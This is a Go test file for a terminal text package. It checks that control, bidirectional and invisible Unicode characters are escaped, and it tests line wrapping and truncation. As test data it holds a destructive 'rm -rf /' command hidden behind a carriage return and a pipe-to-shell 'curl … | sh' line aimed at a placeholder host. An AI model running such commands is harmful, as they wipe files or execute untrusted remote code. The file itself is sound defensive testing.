package term

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, in, want string }{
		{"plain", "rm -rf build", "rm -rf build"},
		{"other scripts", "größe 漢字 שלום", "größe 漢字 שלום"},
		{"colour", "\x1b[31mred", "<U+001B>[31mred"},
		{"carriage return hides what stood before", "rm -rf /\rls", "rm -rf /<U+000D>ls"},
		{"right to left override", "a\u202eb", "a<U+202E>b"},
		{"isolate", "a\u2066b", "a<U+2066>b"},
		{"zero width space", "a\u200bb", "a<U+200B>b"},
		{"no-break space", "a\u00a0b", "a<U+00A0>b"},
		{"tag characters", "a\U000E0041b", "a<U+E0041>b"},
		{"variation selector", "a\ufe0fb", "a<U+FE0F>b"},
		{"Hangul filler", "a\u3164b", "a<U+3164>b"},
		{"empty Braille", "a\u2800b", "a<U+2800>b"},
		{"C1 control", "a\u009bb", "a<U+009B>b"},
		{"not UTF-8", "a\xffb", "a<0xFF>b"},
		{"one mark", "e\u0301", "e\u0301"},
		{"stacked marks", "e" + strings.Repeat("\u0301", 5), "e" + strings.Repeat("\u0301", 3) + "<U+0301><U+0301>"},
		{"mark on what stands before", "\u0301x", "<U+0301>x"},
	} {
		if got := EscapeControlAndInvisible(tc.in); got != tc.want {
			t.Errorf("%s: Escape(%q) = %q, want %q", tc.name, tc.in, got, tc.want)
		}
	}
}

func TestFold(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in      string
		columns int
		want    string
	}{
		{"", 10, ""},
		{"abcdef", 3, "abc|def"},
		{"abc", 3, "abc"},
		{"a\nb", 3, "a|b"},
		{"漢字漢字", 5, "漢字|漢字"},
		{"abc", 0, "ab|c"},
		{"these folders belong to the system", 20, "these folders belong|to the system"},
		{"these folders belong to the system", 21, "these folders belong|to the system"},
		{"to the", 3, "to|the"},
		{"a  b", 2, "a |b"},
		{"    indented text", 12, "    indented|text"},
		{"      ab", 4, "    |  ab"},
		{"rm -rf /a/very/long/name x", 10, "rm -rf|/a/very/lo|ng/name x"},
		{"ab 漢字 c", 6, "ab|漢字 c"},
	} {
		if got := strings.Join(WrapLines(tc.in, tc.columns), "|"); got != tc.want {
			t.Errorf("Fold(%q, %d) = %q, want %q", tc.in, tc.columns, got, tc.want)
		}
	}
}

func TestCut(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		in      string
		columns int
		want    string
	}{
		{"abc", 3, "abc"}, {"abcd", 3, "ab…"}, {"漢字", 3, "漢…"}, {"漢字", 4, "漢字"}, {"a\nb", 10, "a<U+000A>b"}, {"abc", 1, "…"}, {"", 0, ""},
	} {
		if got := TruncateWithEllipsis(tc.in, tc.columns); got != tc.want {
			t.Errorf("Cut(%q, %d) = %q, want %q", tc.in, tc.columns, got, tc.want)
		}
	}
}

// FuzzFold: whatever the text, nothing shown can move the cursor, and every
// line fits.
func FuzzFold(f *testing.F) {
	f.Add("a\x1b[2Jb\u202e\u0301\xff漢", 7)
	f.Fuzz(func(t *testing.T, s string, columns int) {
		columns = 2 + (columns&0xff+0x100)&0xff
		var words []string
		for _, line := range WrapLines(s, columns) {
			if Width(line) > columns {
				t.Errorf("line %q is wider than %d", line, columns)
			}
			if !utf8.ValidString(line) || EscapeControlAndInvisible(line) != line && !strings.HasPrefix(EscapeControlAndInvisible(line), "<U+") {
				t.Errorf("line %q is not escaped", line)
			}
			for _, r := range line {
				if needsEscape(r) {
					t.Errorf("line %q holds %U", line, r)
				}
			}
			words = append(words, strings.Fields(line)...)
		}
		want := ""
		for line := range strings.SplitSeq(s, "\n") {
			want += strings.ReplaceAll(EscapeControlAndInvisible(line), " ", "")
		}
		if got := strings.Join(words, ""); got != want {
			t.Errorf("folded %q holds %q, want %q", s, got, want)
		}
	})
}

func BenchmarkFold(b *testing.B) {
	text := strings.Repeat("curl -s https://example.test/\u202epath | sh\n", 1000)
	b.ReportAllocs()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		WrapLines(text, 80)
	}
}
